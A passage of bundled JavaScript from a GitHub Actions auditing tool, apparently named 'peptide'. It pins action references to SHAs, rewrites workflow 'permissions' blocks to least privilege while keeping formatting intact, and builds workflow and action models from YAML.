        return "unexpected value";
    const pinned = `${quote}${inner.slice(0, -ref.length)}${sha}${quote}`;
    const newline = text.indexOf("\n", valueEnd);
    let lineEnd = newline < 0 ? text.length : newline;
    if (text[lineEnd - 1] === "\r")
        lineEnd--;
    const rest = text.slice(valueEnd, lineEnd);
    if (/^\s*$/.test(rest))
        return { start, end: lineEnd, text: `${pinned} # ${ref}` };
    const comment = /^(\s+)#\s?(.*)$/.exec(rest);
    if (!comment)
        return "more YAML follows on the line (flow mapping); pin it by hand";
    const [, space = " ", existing = ""] = comment;
    const kept = existing.trimEnd();
    const tagged = kept === ref || kept.startsWith(`${ref} `) ? kept : kept === "" ? ref : `${ref} # ${kept}`;
    return { start, end: lineEnd, text: `${pinned}${space}# ${tagged}` };
}
//# sourceMappingURL=pin.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/catalog.js


/** Every rule with its docs, `parse-error` included: the metadata SARIF and help screens show. */
function ruleCatalog() {
    return [
        ...registry/* RULES */.y.map((r) => ({ id: r.id, title: r.title, severity: r.severity, confidence: r.confidence, help: RULE_DOCS[r.id] })),
        { id: "parse-error", title: "File cannot be read as a workflow or action", severity: "high", confidence: "high", help: RULE_DOCS["parse-error"] },
    ];
}
//# sourceMappingURL=catalog.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/scopes.js
var permissions_scopes = __webpack_require__(51630);
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/actions.js
var actions = __webpack_require__(95896);
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/compute.js
var compute = __webpack_require__(72410);
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/excess.js
var excess = __webpack_require__(61456);
;// CONCATENATED MODULE: ./packages/workflow/dist/fix/permissions.js




/**
 * Decides the new blocks. The top level becomes `permissions: {}` and each job gets what it
 * needs, except that a grant is never taken away from a job with steps we could not classify
 * when a person wrote it (its own block, or a top-level map it inherited); a job calling a
 * workflow we could not read keeps the default token rather than lose what the callee needs.
 */
function planPermissions(workflow, options = {}) {
    const reqs = (0,excess/* requirementsOf */.CG)(workflow, options);
    const req = (job) => reqs.get(job.id);
    const heirs = (0,excess/* inheritors */.yH)(workflow);
    const opaqueCall = (job) => job.uses !== undefined && req(job).unknown.length > 0;
    const old = workflow.permissions;
    let top = "keep";
    const topScopes = (0,excess/* narrowedTop */.KR)(workflow, reqs);
    if (!old)
        top = heirs.length > 0 && !heirs.some(opaqueCall) ? "add" : "keep";
    else if ((0,excess/* topFlagged */.yv)(workflow, reqs))
        top = topScopes ? "narrow" : "replace";
    const jobs = [];
    for (const job of workflow.jobs) {
        const r = req(job);
        if (job.permissions) {
            const flagged = job.permissions.kind === "all" || (0,excess/* jobExcess */.lJ)(job.permissions, r).length > 0;
            if (flagged && r.unknown.length === 0)
                jobs.push({ job, scopes: r.scopes, unknown: [], replace: true });
            continue;
        }
        if (old && (top === "keep" || top === "narrow"))
            continue; // it inherits a block that is (now) fine
        if (!old && opaqueCall(job))
            continue; // leave it on the default token: the callee decides
        if (r.unknown.length === 0) {
            // with `permissions: {}` at the top, a job that needs nothing needs no block
            if ((0,permissions_scopes/* grantEntries */.nE)(r.scopes).length > 0 || top === "keep")
                jobs.push({ job, scopes: r.scopes, unknown: [], replace: false });
            continue;
        }
        const scopes = (0,permissions_scopes/* mergeGrants */.GI)(old?.kind === "map" ? (0,excess/* declaredGrants */.kL)(old) : {}, r.scopes);
        const all = old?.kind === "all" && opaqueCall(job) ? old.level : undefined;
        jobs.push({ job, scopes, all, unknown: r.unknown, replace: false });
    }
    return { top, topScopes: top === "narrow" ? topScopes : undefined, jobs };
}
/**
 * `peptide audit --fix` for permissions: the workflow's text with `permissions: {}` at the top and
 * each job's minimal block, edited line by line so that comments, quoting, blank lines and line
 * endings stay as they were. Running it on its own output changes nothing.
 */
function fixPermissions(source, workflow, options = {}) {
    const plan = planPermissions(workflow, options);
    const doc = new Lines(source.text);
    const edits = [];
    edits.push(...topLevelEdits(source, workflow, plan, doc));
    for (const jobPlan of plan.jobs)
        edits.push(...jobEdits(source, jobPlan, doc));
    if (edits.length === 0)
        return source.text;
    const text = doc.apply(edits);
    const check = new model_source/* SourceFile */.sC(source.path, text);
    if (check.doc.errors.length > 0)
        throw new dist/* PeptideError */._6("FIX_FAILED", `${source.path}: the permissions fix would not parse (${check.doc.errors[0]?.message.split("\n")[0] ?? "YAML error"}); file left unchanged`);
    return text;
}
function topLevelEdits(source, workflow, plan, doc) {
    const jobsPair = (0,model_source/* pairOf */.cF)(source.root, "jobs");
    if (plan.top === "keep" || !jobsPair)
        return [];
    const jobsAt = source.positionOf(jobsPair);
    const indent = " ".repeat(jobsAt.column - 1);
    const block = workflow.permissions;
    if (plan.top === "narrow" && block)
        return replaceBlock(source, block, plan.topScopes ?? {}, indent, "  ", doc);
    if (plan.top === "replace" && block) {
        const { start, end } = pairLines(source, block);
        const comments = doc.range(start + 1, end).filter((line) => /^\s*#/.test(line));
        return [{ start, count: end - start + 1, lines: [`${indent}permissions: {}`, ...comments] }];
    }
    // before `jobs:` and the comment lines just above it
    let at = jobsAt.line - 1;
    while (at > 0 && /^\s*#/.test(doc.text(at - 1)))
        at--;
    const blankAbove = at === 0 || doc.text(at - 1).trim() === "";
    return [{ start: at, count: 0, lines: blankAbove ? [`${indent}permissions: {}`, ""] : [`${indent}permissions: {}`] }];
}
function jobEdits(source, plan, doc) {
    const node = plan.job.node;
    if (!(0,model_source/* isMap */.jh)(node) || node.flow || node.items.length === 0)
        return []; // a flow-style job cannot be edited by lines
    const first = node.items[0]?.key;
    const childColumn = source.positionOf(first).column;
    const indent = " ".repeat(childColumn - 1);
    const unit = " ".repeat(Math.max(2, childColumn - source.positionOf(plan.job.keyNode).column));
    const comment = plan.unknown.length > 0 ? [`${indent}# peptide: could not classify ${unknownComment(plan.unknown)}; add what they need`] : [];
    const block = plan.job.permissions;
    if (block && plan.replace)
        return replaceBlock(source, block, plan.scopes, indent, unit, doc);
    const lines = plan.all ? [`${indent}permissions: ${plan.all}-all`] : blockLines(plan.scopes, indent, unit);
    return [{ start: source.positionOf(plan.job.keyNode).line, count: 0, lines: [...comment, ...lines] }];
}
/** A job's own block, narrowed: scope lines edited in place (comments kept), new scopes appended. */
function replaceBlock(source, block, scopes, indent, unit, doc) {
    const { start, end } = pairLines(source, block);
    const value = block.pair.value;
    const wanted = (0,permissions_scopes/* grantEntries */.nE)(scopes);
    if (block.kind === "all" || !(0,model_source/* isMap */.jh)(value) || value.flow || wanted.length === 0) {
        const comments = doc.range(start + 1, end).filter((line) => /^\s*#/.test(line));
        return [{ start, count: end - start + 1, lines: [...blockLines(scopes, indent, unit), ...comments] }];
    }
    const edits = [];
    const seen = new Set();
    let last = start;
    let itemIndent = `${indent}${unit}`;
    for (const item of value.items) {
        const name = (0,model_source/* isScalar */.jn)(item.key) ? String(item.key.value) : "";
        const at = source.positionOf(item.key).line - 1;
        itemIndent = " ".repeat(source.positionOf(item.key).column - 1);
        last = Math.max(last, at);
        if (!(0,permissions_scopes/* isScope */.T2)(name))
            continue;
        seen.add(name);
        const level = scopes[name];
        const old = block.scopes.get(name)?.level;
        if (level === undefined) {
            if (old !== "none")
                edits.push({ start: at, count: 1, lines: [] });
        }
        else if (level !== old) {
            edits.push({ start: at, count: 1, lines: [doc.text(at).replace(/^(\s*["']?[\w-]+["']?\s*:\s*)(["']?)(?:read|write|none)\2/, `$1$2${level}$2`)] });
        }
    }
    const added = wanted.filter(([scope]) => !seen.has(scope)).map(([scope, access]) => `${itemIndent}${scope}: ${access}`);
    if (added.length > 0)
        edits.push({ start: last + 1, count: 0, lines: added });
    return edits;
}
function blockLines(scopes, indent, unit) {
    const entries = (0,permissions_scopes/* grantEntries */.nE)(scopes);
    if (entries.length === 0)
        return [`${indent}permissions: {}`];
    return [`${indent}permissions:`, ...entries.map(([scope, access]) => `${indent}${unit}${scope}: ${access}`)];
}
/** First and last 0-based line of a `permissions:` pair (key through value). */
function pairLines(source, block) {
    const start = block.pos.line - 1;
    const value = block.pair.value;
    const endOffset = value?.range ? value.range[1] - 1 : undefined;
    const end = endOffset === undefined ? start : source.position(Math.max(endOffset, 0)).line - 1;
    return { start, end: Math.max(start, end) };
}
function unknownComment(unknown) {
    const clean = unknown.map((u) => u.replace(/[\r\n]+/g, " "));
    const shown = clean.slice(0, 3).join(", ");
    return clean.length > 3 ? `${shown} and ${clean.length - 3} more` : shown;
}
/** The text as lines, each with its own line ending, so CRLF and a missing final newline survive edits. */
class Lines {
    lines = [];
    eol;
    constructor(text) {
        const re = /\r\n|\n|\r/g;
        let from = 0;
        let crlf = 0;
        let lf = 0;
        for (let m = re.exec(text); m; m = re.exec(text)) {
            this.lines.push({ text: text.slice(from, m.index), eol: m[0] });
            if (m[0] === "\r\n")
                crlf++;
            else
                lf++;
            from = m.index + m[0].length;
        }
        if (from < text.length || this.lines.length === 0)
            this.lines.push({ text: text.slice(from), eol: "" });
        this.eol = crlf > lf ? "\r\n" : "\n";
    }
    text(index) {
        return this.lines[index]?.text ?? "";
    }
    /** Lines `from` to `to`, inclusive. */
    range(from, to) {
        return this.lines.slice(from, to + 1).map((l) => l.text);
    }
    /** Applies non-overlapping edits, from the bottom up. */
    apply(edits) {
        const lines = this.lines.map((l) => ({ ...l }));
        const sorted = [...edits].sort((a, b) => b.start - a.start || b.count - a.count);
        for (const edit of sorted) {
            const before = lines[edit.start - 1];
            if (before && before.eol === "" && edit.lines.length > 0)
                before.eol = this.eol; // inserting after an unterminated last line
            const eol = lines[edit.start]?.eol || before?.eol || this.eol;
            lines.splice(edit.start, edit.count, ...edit.lines.map((text) => ({ text, eol })));
        }
        return lines.map((l) => l.text + l.eol).join("");
    }
}
//# sourceMappingURL=permissions.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/permissions/commands.js
var commands = __webpack_require__(15273);
;// CONCATENATED MODULE: ./packages/workflow/dist/permissions/local.js




/**
 * Reads the local actions (`uses: ./.github/actions/x`) and local reusable workflows
 * (`uses: ./.github/workflows/x.yml`) a workflow refers to, under the repository root, so that
 * `requiredPermissions` and `fixPermissions` can classify them instead of reporting them as
 * unknown. Files that cannot be read or parsed stay unknown.
 */
async function loadLocalUses(workflow, repoRoot) {
    const actions = new Map();
    const workflows = new Map();
    const pending = [];
    const queueSteps = (steps, depth) => {
        for (const step of steps) {
            const uses = (0,model_source/* scalarText */.ws)(step.uses);
            if (uses?.startsWith("./"))
                pending.push({ uses, depth });
        }
    };
    for (const job of workflow.jobs) {
        queueSteps(job.steps, 0);
        const uses = (0,model_source/* scalarText */.ws)(job.uses);
        if (uses?.startsWith("./"))
            pending.push({ uses, depth: 0 });
    }
    while (pending.length > 0) {
        const { uses, depth } = pending.shift();
        if (depth > 3 || actions.has(uses) || workflows.has(uses))
            continue;
        if (/\.ya?ml$/.test(uses)) {
            const model = await read(repoRoot, uses, (s) => (0,build/* buildWorkflow */.aL)(s));
            if (!model)
                continue;
            workflows.set(uses, model);
            for (const job of model.jobs)
                queueSteps(job.steps, depth + 1);
        }
        else {
            const model = (await read(repoRoot, external_node_path_.posix.join(uses, "action.yml"), (s) => (0,build/* buildAction */.fL)(s))) ?? (await read(repoRoot, external_node_path_.posix.join(uses, "action.yaml"), (s) => (0,build/* buildAction */.fL)(s)));
            if (!model)
                continue;
            actions.set(uses, model);
            queueSteps(model.steps, depth + 1);
        }
    }
    return {
        resolveAction: (uses) => actions.get(uses),
        resolveWorkflow: (uses) => workflows.get(uses.replace(/@.*$/, "")),
    };
}
async function read(root, relative, build) {
    try {
        const text = await (0,dist/* readTextFile */.Gu)(external_node_path_.join(root, relative), { root });
        const source = new model_source/* SourceFile */.sC(relative, text);
        if (source.doc.errors.length > 0)
            return undefined;
        return build(source);
    }
    catch {
        return undefined; // unreadable, outside the root, or not an action: it stays unknown
    }
}
//# sourceMappingURL=local.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/parallel.js
var parallel = __webpack_require__(77185);
;// CONCATENATED MODULE: ./packages/workflow/dist/index.js
























//# sourceMappingURL=index.js.map

/***/ }),

/***/ 92836:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   B: () => (/* binding */ memoize),
/* harmony export */   E: () => (/* binding */ memoizeText)
/* harmony export */ });
/**
 * Facts derived from one model object (a step, a job, a YAML node), computed once and shared by
 * every rule that asks during a run. Keyed weakly: the cache goes when the model does.
 */
function memoize(compute) {
    const cache = new WeakMap();
    return (key) => {
        if (cache.has(key))
            return cache.get(key);
        const value = compute(key);
        cache.set(key, value);
        return value;
    };
}
/** Like `memoize`, for a string key; the cache is emptied when it reaches `limit` entries. */
function memoizeText(compute, limit = 10_000) {
    const cache = new Map();
    return (key) => {
        const cached = cache.get(key);
        if (cached !== undefined || cache.has(key))
            return cached;
        const value = compute(key);
        if (cache.size >= limit)
            cache.clear();
        cache.set(key, value);
        return value;
    };
}
//# sourceMappingURL=memo.js.map

/***/ }),

/***/ 39666:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   aL: () => (/* binding */ buildWorkflow),
/* harmony export */   fL: () => (/* binding */ buildAction),
/* harmony export */   l_: () => (/* binding */ buildPermissions),
/* harmony export */   me: () => (/* binding */ ModelError)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
/* harmony import */ var _peptide_core__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(57775);
/* harmony import */ var _source_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(11257);



/** Raised when a YAML document parses but is not a workflow or action; becomes a `parse-error` finding. */
class ModelError extends _peptide_core__WEBPACK_IMPORTED_MODULE_1__/* .PeptideError */ ._6 {
    node;
    constructor(code, message, node) {
        super(code, message);
        this.node = node;
    }
}
function buildWorkflow(source) {
    const root = source.root;
    if (!root)
        throw new ModelError("NOT_A_MAPPING", "the document is not a YAML mapping", source.doc.contents);
    const onPair = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(root, "on") ?? (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(root, "true");
    const jobsNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "jobs");
    if (!onPair)
        throw new ModelError("NOT_A_WORKFLOW", "a workflow needs an `on:` key", root);
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(jobsNode))
        throw new ModelError("NOT_A_WORKFLOW", "a workflow needs a `jobs:` mapping", (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(root, "jobs")?.key ?? root);
    const permissionsPair = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(root, "permissions");
    return {
        kind: "workflow",
        source,
        name: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(root, "name"),
        triggers: buildTriggers(source, onPair),
        onPos: source.positionOf(onPair),
        permissions: permissionsPair ? buildPermissions(source, permissionsPair) : undefined,
        env: mapOf((0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "env")),
        jobs: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(jobsNode).map(([id, pair]) => buildJob(source, id, pair)),
    };
}
function buildAction(source) {
    const root = source.root;
    if (!root)
        throw new ModelError("NOT_A_MAPPING", "the document is not a YAML mapping", source.doc.contents);
    const runsPair = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(root, "runs");
    if (!runsPair || !(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(runsPair.value))
        throw new ModelError("NOT_AN_ACTION", "an action needs a `runs:` mapping", root);
    const runs = runsPair.value;
    const usingNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(runs, "using");
    const image = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(runs, "image");
    return {
        kind: "action",
        source,
        name: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(root, "name"),
        using: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(usingNode),
        usingNode: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(usingNode) ? usingNode : undefined,
        runsPos: source.positionOf(runsPair),
        image: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(image) ? image : undefined,
        steps: buildSteps(source, (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(runs, "steps")),
        inputs: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)((0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(root, "inputs")).map(([name]) => name),
    };
}
function buildTriggers(source, onPair) {
    const value = onPair.value;
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(value)) {
        const event = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(value);
        return event ? [{ event, keyNode: value, pos: source.positionOf(value) }] : [];
    }
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(value)) {
        return value.items.flatMap((item) => {
            const event = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(item);
            return event && (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(item) ? [{ event, keyNode: item, pos: source.positionOf(item) }] : [];
        });
    }
    return (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(value).map(([event, pair]) => ({
        event,
        keyNode: pair.key,
        pos: source.positionOf(pair),
        config: pair.value ?? undefined,
    }));
}
function buildJob(source, id, pair) {
    const node = ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(pair.value) ? pair.value : undefined);
    const permissionsPair = node ? (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .pairOf */ .cF)(node, "permissions") : undefined;
    const environment = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "environment");
    const uses = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "uses");
    const ifNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "if");
    return {
        id,
        keyNode: pair.key,
        node: node ?? pair.key,
        pos: source.positionOf(pair),
        name: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(node, "name"),
        runsOn: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "runs-on"),
        permissions: permissionsPair ? buildPermissions(source, permissionsPair) : undefined,
        environment,
        environmentName: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(environment) ? (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(environment) : (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(environment, "name"),
        uses: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(uses) ? uses : undefined,
        with: mapOf((0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "with")),
        secrets: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "secrets"),
        steps: buildSteps(source, (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "steps")),
        container: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "container"),
        services: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "services"),
        env: mapOf((0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "env")),
        if: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(ifNode) ? ifNode : undefined,
        needs: listText((0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "needs")),
        strategy: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(node, "strategy"),
    };
}
function buildSteps(source, stepsNode) {
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(stepsNode))
        return [];
    const steps = [];
    stepsNode.items.forEach((item, index) => {
        if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(item))
            return;
        const uses = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(item, "uses");
        const run = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(item, "run");
        const ifNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(item, "if");
        const withNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(item, "with");
        const envNode = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .valueOf */ .RP)(item, "env");
        steps.push({
            index,
            node: item,
            pos: source.positionOf(item),
            id: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(item, "id"),
            name: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(item, "name"),
            uses: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(uses) ? uses : undefined,
            run: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(run) ? run : undefined,
            shell: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(item, "shell"),
            with: mapOf(withNode),
            withNode: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(withNode) ? withNode : undefined,
            env: mapOf(envNode),
            envNode: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(envNode) ? envNode : undefined,
            if: (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(ifNode) ? ifNode : undefined,
            workingDirectory: (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .textOf */ .b6)(item, "working-directory"),
        });
    });
    return steps;
}
function buildPermissions(source, pair) {
    const value = pair.value;
    const pos = source.positionOf(pair);
    const text = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(value);
    if (text === "read-all" || text === "write-all") {
        return { kind: "all", level: text === "read-all" ? "read" : "write", pair, pos };
    }
    const scopes = new Map();
    for (const [scope, scopePair] of (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(value)) {
        const level = (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(scopePair.value);
        if (level === "read" || level === "write" || level === "none")
            scopes.set(scope, { level, pos: source.positionOf(scopePair) });
    }
    return { kind: "map", scopes, pair, pos };
}
function mapOf(node) {
    const out = new Map();
    for (const [key, pair] of (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .entries */ .jO)(node))
        if (pair.value)
            out.set(key, pair.value);
    return out;
}
function listText(node) {
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(node))
        return (0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(node) ? [(0,_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws)(node)] : [];
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(node))
        return node.items.map(_source_js__WEBPACK_IMPORTED_MODULE_2__/* .scalarText */ .ws).filter((v) => v !== undefined);
    return [];
}
//# sourceMappingURL=build.js.map

/***/ }),

/***/ 11257:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   RP: () => (/* binding */ valueOf),
/* harmony export */   b6: () => (/* binding */ textOf),
/* harmony export */   c3: () => (/* binding */ listOf),
/* harmony export */   cF: () => (/* binding */ pairOf),
/* harmony export */   jO: () => (/* binding */ entries),
/* harmony export */   jh: () => (/* reexport safe */ yaml__WEBPACK_IMPORTED_MODULE_0__.isMap),
/* harmony export */   jn: () => (/* reexport safe */ yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar),
/* harmony export */   oP: () => (/* reexport safe */ yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq),
/* harmony export */   sC: () => (/* binding */ SourceFile),
/* harmony export */   tO: () => (/* reexport safe */ yaml__WEBPACK_IMPORTED_MODULE_0__.isPair),
/* harmony export */   ws: () => (/* binding */ scalarText)
/* harmony export */ });
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);

/** Aliases allowed before a document is treated as an alias bomb. */
const MAX_ALIAS_COUNT = 100;
/** One YAML file with its text, document and a way back from any node to line and column. */
class SourceFile {
    path;
    text;
    lineCounter = new yaml__WEBPACK_IMPORTED_MODULE_0__.LineCounter();
    doc;
    constructor(
    /** Path as given to the user (relative to the working directory when possible). */
    path, text) {
        this.path = path;
        this.text = text;
        this.doc = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.parseDocument)(text, { lineCounter: this.lineCounter, prettyErrors: false, uniqueKeys: false, strict: false });
    }
    get root() {
        const contents = this.doc.contents;
        return (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(contents) ? contents : undefined;
    }
    position(offset) {
        const { line, col } = this.lineCounter.linePos(offset);
        return { line, column: col };
    }
    /** Where a node starts; for a pair, where its key starts. */
    positionOf(node) {
        if (node === null || node === undefined)
            return { line: 1, column: 1 };
        const target = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isPair)(node) ? node.key : node;
        const range = target && "range" in target ? target.range : undefined;
        return range ? this.position(range[0]) : { line: 1, column: 1 };
    }
    /**
     * Where `needle` occurs inside a node's source text (the `occurrence`-th time, 0-based), falling
     * back to the node's start. Used to point at an expression inside a multi-line `run:` script.
     */
    positionIn(node, needle, occurrence = 0) {
        const range = node.range;
        if (!range)
            return this.positionOf(node);
        const raw = this.text.slice(range[0], range[1]);
        let at = -1;
        for (let i = 0; i <= occurrence; i++) {
            at = raw.indexOf(needle, at + 1);
            if (at < 0)
                break;
        }
        return at < 0 ? this.positionOf(node) : this.position(range[0] + at);
    }
    /** The source line (1-based) as text, without its newline. */
    line(n) {
        const start = this.lineCounter.lineStarts[n - 1];
        if (start === undefined)
            return "";
        const end = this.lineCounter.lineStarts[n] ?? this.text.length;
        return this.text.slice(start, end).replace(/\r?\n$/, "");
    }
    /** Resolves aliases within the alias budget; throws on an alias bomb. */
    assertAliasBudget() {
        this.doc.toJS({ maxAliasCount: MAX_ALIAS_COUNT });
    }
}
/** The pair for `key` in a map, if any. Keys compare as strings. */
function pairOf(map, key) {
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(map))
        return undefined;
    for (const item of map.items) {
        if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(item.key) && String(item.key.value) === key)
            return item;
    }
    return undefined;
}
/** The value node for `key` in a map, if any. */
function valueOf(map, key) {
    const value = pairOf(map, key)?.value;
    return value ?? undefined;
}
/** A scalar's value as a string (numbers and booleans stringified), or undefined. */
function scalarText(node) {
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(node))
        return undefined;
    const value = node.value;
    if (value === null || value === undefined)
        return undefined;
    return typeof value === "string" ? value : String(value);
}
/** The scalar string for `key`, if the value is a scalar. */
function textOf(map, key) {
    return scalarText(valueOf(map, key));
}
/** Pairs of a map with string keys. */
function entries(map) {
    if (!(0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(map))
        return [];
    const out = [];
    for (const item of map.items) {
        if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(item.key))
            out.push([String(item.key.value), item]);
    }
    return out;
}
/** Items of a sequence, or the node itself as a one-element list when it is a scalar. */
function listOf(node) {
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isSeq)(node))
        return node.items.filter((item) => item !== null && typeof item === "object");
    if ((0,yaml__WEBPACK_IMPORTED_MODULE_0__.isScalar)(node) || (0,yaml__WEBPACK_IMPORTED_MODULE_0__.isMap)(node))
        return [node];
    return [];
}

//# sourceMappingURL=source.js.map

/***/ }),

/***/ 77185:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   FY: () => (/* binding */ serveAuditWorker),
/* harmony export */   Ov: () => (/* binding */ auditInWorkers),
/* harmony export */   lQ: () => (/* binding */ PARALLEL_MIN_FILES),
/* harmony export */   w6: () => (/* binding */ isAuditWorker)
/* harmony export */ });
/* harmony import */ var node_os__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(48161);
/* harmony import */ var node_worker_threads__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(75919);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(73024);



/** Below this many files a worker's start-up costs more than it saves. */
const PARALLEL_MIN_FILES = 48;
const TAG = "peptide-audit-worker";
/**
 * Splits candidates into balanced shares (largest files first, dealt round-robin), audits one
 * share here and the others in worker threads, and merges the results. `targets` stay empty:
 * parsed models do not cross threads.
 */
async function auditInWorkers(candidates, cwd, config, options) {
    const { auditCandidates } = await Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 11669));
    const cores = (0,node_os__WEBPACK_IMPORTED_MODULE_0__.availableParallelism)();
    const threads = Math.max(1, Math.min(options.threads ?? (cores >= 4 ? cores : 1), 8, Math.ceil(candidates.length / PARALLEL_MIN_FILES)));
